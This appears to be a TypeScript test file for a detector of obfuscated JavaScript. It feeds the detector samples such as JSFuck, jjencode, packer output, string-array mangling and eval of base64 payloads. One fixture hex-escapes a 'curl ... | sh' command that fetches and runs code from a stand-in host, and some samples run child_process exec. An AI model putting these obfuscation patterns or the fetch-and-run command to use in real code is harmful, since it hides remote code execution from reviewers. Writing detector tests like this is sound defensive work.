import { createRequire } from 'node:module';
import { testCapability } from '../helpers/capability-tester.js';
import { packEdwards } from '../helpers/edwards-packer.js';

const require = createRequire(import.meta.url);
const { JSFuck } = require('jsfuck') as { JSFuck: { encode(input: string, wrapWithEval: boolean): string } };

/** `Function(<JSFuck of "return process">)()` in JSFuck: ~2,000 characters of `[]()!+`. */
const JSFUCK_RUN = `${JSFuck.encode('return process', true)}\n`;
/** A string whose every character is a needless `\xNN` escape. */
const ESCAPED = `const cmd = "${'curl -s https://c.invalid/x | sh; '.repeat(6).replace(/[a-z0-9]/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`)}";\nrun(cmd);`;
/** javascript-obfuscator's naming: ten `_0x…` names. */
const HEX_NAMES =
  "const _0x1a2b3c = require('os');\nfunction _0x4d5e6f(_0x7a8b9c, _0x1c2d3e) { const _0x4f5a6b = _0x7a8b9c + _0x1c2d3e; return _0x4f5a6b; }\n" +
  'let _0x7c8d9e = _0x4d5e6f(1, 2), _0x1e2f3a = 3, _0x4b5c6d = 4, _0x7e8f9a = 5, _0x2b3c4d = 6;';

testCapability('obfuscated', {
  valid: [
    'var a=require("child_process");a.exec("ls -la",function(b,c){b||console.log(c)});',
    'const K=[0x428a2f98,0x71374491,0xb5c0fbcf];function rotl(x,n){return(x<<n)|(x>>>(32-n))}\nh=rotl(h^0x5a827999,5)+mix(0x10,0x20);',
    'const parts = [token(0x1), token(0x2), token(0x3), token(0x4)];\nreturn [punctuation(32), keyword(110)];',
    "while (i < s.length) {\n  switch (s[i++]) {\n    case '0': n = 0; break;\n    case '1': n = 1; break;\n  }\n}",
    "const accents = '\\u00e9\\u00e8\\u00ea\\u00eb';\nconst control = '\\x00\\x01\\x1b[0m';",
    "const first = (value + '')[0];\nconst yes = !![];\nconst no = ![];",
    "eval('1 + 1');\nconst add = new Function('a', 'b', 'return a + b');",
    "const order = '3|1|2'.split('|');\nmap[key(1)] = 1;\nmap[key(2)] = 2;",
    'var _0xabc = 1;\nvar _0x1234 = 2;',
    // Deep nesting is a run of `(` and `)`, not JSFuck (which mixes all six characters).
    `x = ${'('.repeat(300)}1${')'.repeat(300)};\ny = ${'['.repeat(40)}${']'.repeat(40)};`,
    { code: "const run = require('vm').runInNewContext;\nrun(Buffer.from(src).toString('utf8'));", module: 'cjs' },
  ],
  invalid: [
    { code: HEX_NAMES, findings: [{ line: 1, column: 7, api: 'hex-identifiers', confidence: 'high' }] },
    {
      code: "var a=['exec','child_process','log','argv'];function b(c){return a[c-0x0];}\nrequire(b(0x1))[b(0x0)]('id');console[b(0x2)](process[b(0x3)]);",
      evasion: 'string array with mangled names',
      findings: [{ line: 2, column: 17, api: 'string-array', confidence: 'high' }],
    },
    {
      code: "function f(a){const o='2|0|1'.split('|');let i=0;while(!![]){switch(o[i++]){case'0':a++;continue;case'1':return a;case'2':a*=2;continue;}break;}}\nfunction g(b){const o='1|0'.split('|');let i=0;while(!![]){switch(o[i++]){case'0':return b;case'1':b--;continue;}break;}}",
      findings: [{ line: 1, column: 62, api: 'control-flow-flattening', confidence: 'high' }],
    },
    { code: ESCAPED, findings: [{ line: 1, column: 14, api: 'escaped-strings', confidence: 'medium' }] },
    {
      code: JSFUCK_RUN,
      evasion: 'JSFuck',
      findings: [
        { line: 1, column: 1, api: 'jsfuck', confidence: 'high' },
        { line: 1, api: 'coercion-strings', confidence: 'medium' },
      ],
    },
    {
      code: '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};',
      module: 'cjs',
      evasion: 'jjencode preamble',
      findings: [{ line: 1, column: 23, api: 'coercion-strings', confidence: 'medium' }],
    },
    { code: packEdwards("require('child_process').exec('id');"), evasion: "Dean Edwards' packer", findings: [{ line: 1, column: 1, api: 'eval-packer', confidence: 'high' }] },
    {
      code: "eval(Function('return this.payload')());",
      evasion: 'code computed where it is run',
      findings: [{ line: 1, column: 1, api: 'eval-packer', confidence: 'high' }],
    },
    {
      code: "const ok = 1;\nnew Function(atob('cmV0dXJuIDE='))();\neval(atob(more));",
      findings: [{ line: 2, column: 1, api: 'eval-packer', confidence: 'high' }],
    },
    {
      code: "(0, eval)(Buffer.from(payload, 'base64').toString());",
      evasion: 'indirect eval of a decoded payload',
      findings: [{ line: 1, column: 1, api: 'eval-packer', confidence: 'high' }],
    },
  ],
});
